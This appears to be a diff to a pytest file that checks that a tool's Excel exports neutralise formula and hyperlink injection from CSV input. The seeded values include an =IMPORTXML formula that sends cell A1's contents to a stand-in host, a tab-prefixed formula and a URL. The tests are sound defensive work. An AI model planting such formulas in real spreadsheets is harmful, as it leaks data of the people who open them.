@@ -30,6 +30,7 @@ PAYLOADS = {
 }
 UNIT = '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")'
 TITLE = "\t=2*3"
+LINK = "https://x.example/masuk"  # a title a spreadsheet writer could turn into a hyperlink
 
 
 def _formulas(book: Path) -> list[str]:
@@ -52,6 +53,7 @@ def folders(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
         edit_cell(root / "data" / "employees.csv", row, "name", payload)
     edit_cell(root / "data" / "positions.csv", 2, "unit", UNIT)
     edit_cell(root / "data" / "positions.csv", 3, "title", TITLE)
+    edit_cell(root / "data" / "positions.csv", 4, "title", LINK)
     out = {"run": root / "run", "run2": root / "run2", "cmp": root / "cmp", "needs": root / "needs"}
     assert cli("solve", scenario, "--out", out["run"], "--quiet").exit_code == 0
     assert cli("solve", scenario, "--out", out["run2"], "--quiet").exit_code == 0
@@ -61,10 +63,29 @@ def folders(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     return out
 
 
-@pytest.mark.parametrize("book", ["run/report.xlsx", "cmp/comparison.xlsx", "needs/needs.xlsx"])
+BOOKS = ["run/report.xlsx", "run/decree.xlsx", "cmp/comparison.xlsx", "needs/needs.xlsx"]
+
+
+@pytest.mark.parametrize("book", BOOKS)
 def test_no_workbook_holds_a_formula(folders: dict[str, Path], book: str) -> None:
     folder, name = book.split("/")
     assert _formulas(folders[folder] / name) == []
+
+
+@pytest.mark.parametrize("book", BOOKS)
+def test_no_workbook_holds_a_link(folders: dict[str, Path], book: str) -> None:
+    folder, name = book.split("/")
+    with zipfile.ZipFile(folders[folder] / name) as z:
+        texts = [z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))]
+    assert not any("<hyperlink" in t or "relationships/hyperlink" in t for t in texts)
+
+
+def test_a_link_is_a_string_cell_holding_the_text(folders: dict[str, Path]) -> None:
+    wb = load_workbook(folders["run"] / "report.xlsx")
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == LINK]
+    assert cells
+    assert {c.data_type for c in cells} == {"s"}
+    assert all(c.hyperlink is None for c in cells)
 
 
 @pytest.mark.parametrize("payload", list(PAYLOADS.values()))
